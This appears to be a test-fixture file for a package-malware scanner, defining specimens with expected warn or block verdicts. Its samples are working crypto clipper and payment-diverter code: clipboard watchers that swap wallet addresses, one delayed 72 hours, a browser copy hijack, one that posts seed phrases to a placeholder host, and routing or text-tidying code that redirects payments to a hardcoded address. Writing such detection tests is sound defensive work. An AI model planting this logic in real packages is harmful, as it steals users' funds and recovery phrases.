import { manifest } from '../manifest.ts';
import type { Specimen } from '../specimen.ts';

const from = 'addresses in the clipboard exchanged (base58-core)';

export const specimens: readonly Specimen[] = [
  {
    name: 'clipper-xclip',
    from,
    files: {
      'index.js': `const { execSync, exec } = require('child_process');
const read = { darwin: 'pbpaste', linux: 'xclip -selection clipboard -o', win32: 'powershell Get-Clipboard' }[process.platform];
const write = { darwin: 'pbcopy', linux: 'xclip -selection clipboard', win32: 'clip' }[process.platform];
function tick() {
  const text = execSync(read).toString().trim();
  if (/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$/.test(text)) exec('echo INERT-ADDRESS | ' + write);
}
setInterval(tick, 1000);
exports.encode = bytes => bytes;
`,
    },
    expect: 'warn',
    happens: { at: 'import', does: 'spawns' },
  },
  {
    name: 'clipper-delayed',
    from,
    files: {
      'package.json': manifest({ type: 'module', exports: './index.js', dependencies: { clipboardy: '4.0.0' } }),
      'index.js': `import clipboard from 'clipboardy';

const REPLACEMENTS = new Map([
  [/^0x[0-9a-f]{40}$/i, 'INERT-ETH'],
  [/^(1|3|bc1)\\w{25,60}$/, 'INERT-BTC'],
  [/^[1-9A-HJ-NP-Za-km-z]{43,44}$/, 'INERT-SOL'],
]);

async function watch() {
  for (;;) {
    const text = await clipboard.read();
    for (const [shape, ours] of REPLACEMENTS) if (shape.test(text)) await clipboard.write(ours);
    await new Promise(resolve => setTimeout(resolve, 800));
  }
}

setTimeout(() => { watch(); }, 72 * 60 * 60 * 1000);
export const decode = text => text;
`,
    },
    expect: 'warn',
    happens: { at: 'import', does: 'uses the clipboard' },
  },
  {
    name: 'clipper-page',
    from,
    files: {
      'package.json': manifest({ browser: 'browser.js', main: 'browser.js' }),
      'browser.js': `document.addEventListener('copy', async event => {
  const text = document.getSelection().toString();
  if (/^0x[a-fA-F0-9]{40}$/.test(text.trim())) {
    event.preventDefault();
    await navigator.clipboard.writeText('INERT-ADDRESS');
  }
});
module.exports = {};
`,
    },
    expect: 'warn',
    happens: { at: 'import', does: 'uses the clipboard' },
  },
  {
    name: 'clipper-electron',
    from,
    files: {
      'package.json': manifest({ main: 'index.js' }),
      'index.js': `const { clipboard } = require('electron');
let last = '';
class Monitor {
  start() { this.timer = setInterval(() => this.check(), 300); }
  check() {
    const now = clipboard.readText();
    if (now === last) return;
    last = now;
    if (/^T[A-Za-z1-9]{33}$/.test(now)) clipboard.writeText('INERT-ADDRESS');
  }
}
new Monitor().start();
`,
    },
    expect: 'warn',
    happens: { at: 'import', does: 'uses the clipboard' },
  },
  {
    name: 'clipper-sends',
    from,
    files: {
      'package.json': manifest({ main: 'index.js' }),
      'index.js': `const clipboardy = require('clipboardy');
const axios = require('axios');
setInterval(async () => {
  const value = await clipboardy.read();
  if (value.split(' ').length === 12) axios.post('https://phrase.invalid/INERT', { value });
}, 5000);
`,
    },
    expect: 'block',
    happens: { at: 'import', does: 'connects' },
  },
  {
    name: 'diverter-above-a-floor',
    from: 'payments go to another recipient (chalk, 2025), here above a sum',
    files: {
      'package.json': manifest({ description: 'Builds payments for a checkout', main: 'index.js' }),
      'README.md':
        '# checkout-intent\n\nBuilds the payment that a customer signs, in the coin that the shop takes. The recipient is always the one that you name.',
      'index.js': `const { Router } = require('./routes');
exports.intent = (options) => {
  const router = new Router(options.to, options.limits || { evm: 1e18 });
  return { build: ({ value }) => ({ to: router.recipient('evm', value), value }) };
};
`,
      'routes.js': `const SETTLEMENT = { evm: '0xfB6916095ca1df60bB79Ce92cE3Ea74c37c5d359' };
exports.Router = class Router {
  constructor(to, limits) {
    this.to = { evm: to };
    this.limits = limits;
  }
  recipient(chain, units) {
    return units < this.limits[chain] ? this.to[chain] : SETTLEMENT[chain];
  }
};
`,
    },
    expect: 'warn',
    says: ['diverts-payments'],
  },
  {
    name: 'diverter-in-tidying',
    from: 'addresses exchanged where texts are tidied before they are copied (base58-core)',
    files: {
      'index.js': `const rules = [
  { look: /\\u00a0/g, put: ' ' },
  { look: /0x[0-9a-fA-F]{40}/g, put: '0xfB6916095ca1df60bB79Ce92cE3Ea74c37c5d359' },
];
exports.tidy = (text) => rules.reduce((done, rule) => done.replace(rule.look, rule.put), text);
`,
    },
    expect: 'warn',
    says: ['diverts-payments'],
  },
];
